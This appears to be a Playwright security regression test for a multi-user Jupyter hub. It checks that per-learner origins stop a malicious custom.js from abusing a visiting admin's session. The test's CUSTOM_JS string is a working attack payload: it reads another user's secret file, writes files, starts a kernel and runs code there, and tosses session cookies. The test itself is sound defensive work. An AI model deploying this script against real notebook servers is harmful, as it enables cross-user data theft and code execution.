/**
 * Issue 9, finding 2, replayed in Chromium against real Jupyter: alice's `~/.jupyter/custom/custom.js`
 * runs in every page of her notebook UI, an admin's visit included. With one shared notebook origin it
 * read bob's files and ran code in bob's server with the admin's session. Now each learner has an
 * origin of their own (`http://<name>.localhost:<port>`): with `proxy.adminAccess` on the script
 * reaches nothing of bob's, and cannot toss a hub session cookie either (finding 8); with the default,
 * the admin does not get into alice's server at all.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { CHROMIUM_ARGS } from './support/chromium.js';
import { ADMIN_TOKEN, api, freePort, JUPYTER, startTestSifu, type TestSifu } from './support/sifu.js';

const BOB_SECRET = 'bob-secret-7f3a9c';

/**
 * What alice's page script tries, with whatever session the visiting browser has: read bob's file,
 * write into bob's home, start a kernel there and run code in it, on her origin and on bob's; then
 * toss cookies at the hub. It files what it got in her own home (`loot.json`), as an attacker would.
 */
const CUSTOM_JS = `
(async () => {
  const results = {};
  const bob = location.origin.replace('//alice.', '//bob.');
  const attempt = async (name, run) => {
    try { results[name] = await run(); } catch (e) { results[name] = 'error: ' + e; }
  };
  const text = async (r) => r.status + ' ' + (await r.text()).slice(0, 300);
  const file = JSON.stringify({ type: 'file', format: 'text', content: 'pwned' });
  const json = { 'content-type': 'application/json' };
  for (const [where, base, credentials] of [['same', '', 'same-origin'], ['cross', bob, 'include']]) {
    await attempt(where + 'Read', async () => text(await fetch(base + '/user/bob/api/contents/secret.txt', { credentials })));
    await attempt(where + 'Write', async () => text(await fetch(base + '/user/bob/api/contents/marker-' + where + '.txt',
      { method: 'PUT', credentials, headers: json, body: file })));
    // Requests a page may send anywhere without a preflight (their answers unreadable).
    const simple = { method: 'POST', mode: 'no-cors', credentials, headers: { 'content-type': 'text/plain' } };
    await attempt(where + 'SimpleWrite', async () =>
      (await fetch(base + '/user/bob/api/contents', { ...simple, body: JSON.stringify({ type: 'file', ext: '.txt' }) })).type);
    await attempt(where + 'SimpleKernel', async () =>
      (await fetch(base + '/user/bob/api/kernels', { ...simple, body: '{}' })).type);
    let kernel = 'none';
    await attempt(where + 'Kernel', async () => {
      const r = await fetch(base + '/user/bob/api/kernels', { method: 'POST', credentials, headers: json, body: '{}' });
      if (r.ok) kernel = (await r.json()).id;
      return r.status + ' ' + kernel;
    });
    await attempt(where + 'Run', () => new Promise((resolve) => {
      const ws = new WebSocket((base || location.origin).replace(/^http/, 'ws') + '/user/bob/api/kernels/' + kernel + '/channels');
      const done = setTimeout(() => { ws.close(); resolve('timeout'); }, 5000);
      ws.onopen = () => ws.send(JSON.stringify({
        header: { msg_id: 'm-' + where, username: '', session: 's', msg_type: 'execute_request', version: '5.3', date: '' },
        parent_header: {}, metadata: {}, buffers: [], channel: 'shell',
        content: { code: "open('ran-" + where + ".txt', 'w').write('pwned')", silent: false, store_history: false,
          user_expressions: {}, allow_stdin: false, stop_on_error: true },
      }));
      ws.onmessage = (m) => { if (String(m.data).includes('execute_reply')) { clearTimeout(done); ws.close(); resolve('ran'); } };
      ws.onerror = () => { clearTimeout(done); resolve('refused'); };
    }));
  }
  // Cookie tossing: alice's own hub session, planted for the hub's host name every way a page can.
  const hubSession = localStorage.getItem('alice-hub-session') || '';
  for (const cookie of [
    'sifu-hub-session=' + hubSession + '; Path=/; Domain=localhost',
    'sifu-hub-session=' + hubSession + '; Path=/hub; Domain=localhost',
    '__Host-sifu-hub-session=' + hubSession + '; Path=/; Secure',
    '__Host-sifu-hub-session=' + hubSession + '; Path=/; Secure; Domain=localhost',
    '__Secure-sifu-hub-session=' + hubSession + '; Path=/; Secure; Domain=localhost',
  ]) document.cookie = cookie;
  await fetch('/user/alice/api/contents/loot.json', { method: 'PUT', headers: json,
    body: JSON.stringify({ type: 'file', format: 'text', content: JSON.stringify(results) }) });
  window.__attackDone = results;
})();
`;

interface Setup {
  sifu: TestSifu;
  hub: string;
  /** The hub as Node reaches it (Sifu's public hub URL is on `localhost`). */
  hubApi: { hubUrl: string };
  origin(user: string): string;
}

async function startSifuWithAttacker(adminAccess: boolean): Promise<Setup> {
  const hubPort = await freePort();
  // The hub on `localhost` too, the parent of every learner's host name: the case where a learner's
  // page could reach the hub's cookies if anything could.
  const hub = `http://localhost:${hubPort}`;
  const sifu = await startTestSifu({
    command: JUPYTER,
    userOrigins: true,
    overrides: {
      spawner: { startTimeout: 90 },
      hub: { port: hubPort, publicUrl: hub },
      proxy: { adminAccess },
    },
  });
  const hubApi = { hubUrl: `http://127.0.0.1:${hubPort}` };
  await mkdir(join(sifu.dataDir, 'homes/bob'), { recursive: true });
  await writeFile(join(sifu.dataDir, 'homes/bob/secret.txt'), BOB_SECRET);
  await mkdir(join(sifu.dataDir, 'homes/alice/.jupyter/custom'), { recursive: true });
  await writeFile(join(sifu.dataDir, 'homes/alice/.jupyter/custom/custom.js'), CUSTOM_JS);
  for (const user of ['alice', 'bob']) {
    await api(hubApi, `/users/${user}`, { method: 'POST', token: ADMIN_TOKEN });
    const started = await api(hubApi, `/users/${user}/server`, { method: 'POST', token: ADMIN_TOKEN });
    assert.ok([201, 202].includes(started.status), JSON.stringify(started.body));
    await sifu.manager.progress(user, '')?.done;
  }
  await api(hubApi, '/users/root', { method: 'POST', token: ADMIN_TOKEN, body: { admin: true } });
  const port = new URL(sifu.notebookUrl).port;
  return { sifu, hub, hubApi, origin: (user) => `http://${user}.localhost:${port}` };
}

async function signIn(context: BrowserContext, hub: string, user: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${hub}/hub/login?next=${encodeURIComponent('/hub/home')}`);
  await page.getByLabel('User name').fill(user);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL(`${hub}/hub/home`);
  return page;
}

let browser: Browser;
before(async () => {
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
});
after(async () => {
  await browser?.close();
});

describe("with proxy.adminAccess on, alice's page gets nothing of bob's through an admin", () => {
  let s: Setup;
  before(async () => {
    s = await startSifuWithAttacker(true);
  });
  after(async () => {
    await s?.sifu.cleanup();
  });

  test("the admin opens bob's server, then alice's: her script reads, writes and runs nothing in bob's", async () => {
    const { sifu } = s;
    // alice's own hub session: what she would plant in the admin's browser.
    const aliceContext = await browser.newContext();
    await signIn(aliceContext, s.hub, 'alice');
    const aliceHub = (await aliceContext.cookies(s.hub)).find((c) => c.name.endsWith('sifu-hub-session'));
    assert.ok(aliceHub, "alice's hub cookie");
    await aliceContext.close();

    const admin = await browser.newContext();
    const page = await signIn(admin, s.hub, 'root');
    // The admin has a session on bob's origin too: the strongest position for the script to abuse.
    await page.goto(`${s.origin('bob')}/user/bob/tree`);
    await page.waitForURL(`${s.origin('bob')}/user/bob/tree**`);
    await page.getByRole('link', { name: 'secret.txt' }).waitFor({ timeout: 30_000 });

    await page.goto(`${s.origin('alice')}/user/alice/tree`);
    await page.waitForURL(`${s.origin('alice')}/user/alice/tree**`);
    await page.evaluate((v) => localStorage.setItem('alice-hub-session', v), aliceHub.value);
    await page.reload();
    const results = (await (
      await page.waitForFunction(() => (window as { __attackDone?: unknown }).__attackDone, null, {
        timeout: 60_000,
      })
    ).jsonValue()) as Record<string, string>;

    // Nothing of bob's reached the script...
    assert.doesNotMatch(JSON.stringify(results), new RegExp(BOB_SECRET), JSON.stringify(results));
    const loot = JSON.parse(await readFile(join(sifu.dataDir, 'homes/alice/loot.json'), 'utf8')) as Record<
      string,
      string
    >;
    assert.deepEqual(loot, results, 'the script ran to its end and filed its loot');
    assert.match(results.sameRead as string, /^403 .*SIFU_ERR_WRONG_ORIGIN/);
    assert.match(results.crossRead as string, /^error: TypeError/, 'CORS: the answer is unreadable');
    for (const key of ['sameKernel', 'crossKernel'])
      assert.match(results[key] as string, /^(error|4\d\d)/, key);
    for (const key of ['sameRun', 'crossRun']) assert.equal(results[key], 'refused', key);
    // ...and nothing was written or run in bob's server.
    const bobsFiles = (await readdir(join(sifu.dataDir, 'homes/bob'))).filter((f) => !f.startsWith('.'));
    assert.deepEqual(bobsFiles, ['secret.txt'], "nothing new in bob's home");
    const kernels = await page.goto(`${s.origin('bob')}/user/bob/api/kernels`);
    assert.deepEqual(await kernels?.json(), [], "no kernel was started in bob's server");

    // The tossed cookies did not make the admin alice at the hub (finding 8).
    const home = await page.goto(`${s.hub}/hub/home`);
    const html = (await home?.text()) ?? '';
    assert.match(html, /\/hub\/spawn\/root/, 'still signed in as root');
    assert.doesNotMatch(html, /\/hub\/spawn\/alice/);
    const hubCookies = await admin.cookies(s.hub);
    assert.deepEqual(
      hubCookies.filter((c) => c.value === aliceHub.value).map((c) => c.name),
      [],
      'no cookie the hub receives holds her session',
    );
    // Each entry of the admin was audited.
    const audits = await sifu.store.listEvents({ type: 'admin.access' });
    assert.deepEqual(new Set(audits.map((e) => e.userName)), new Set(['alice', 'bob']));
    await admin.close();
  });
});

describe("with the default (proxy.adminAccess off), an admin cannot open alice's notebook", () => {
  let s: Setup;
  before(async () => {
    s = await startSifuWithAttacker(false);
  });
  after(async () => {
    await s?.sifu.cleanup();
  });

  test('403 SIFU_ERR_ADMIN_ACCESS_OFF, and her script never runs', async () => {
    const admin = await browser.newContext();
    const page = await signIn(admin, s.hub, 'root');
    const answer = await page.goto(`${s.origin('alice')}/user/alice/tree`);
    assert.equal(answer?.status(), 403);
    assert.match((await answer?.text()) ?? '', /SIFU_ERR_ADMIN_ACCESS_OFF/);
    assert.equal(await page.evaluate(() => (window as { __attackDone?: unknown }).__attackDone), undefined);
    assert.equal(existsSync(join(s.sifu.dataDir, 'homes/alice/loot.json')), false);
    assert.deepEqual(await s.sifu.store.listEvents({ type: 'admin.access' }), []);
    await admin.close();
  });
});
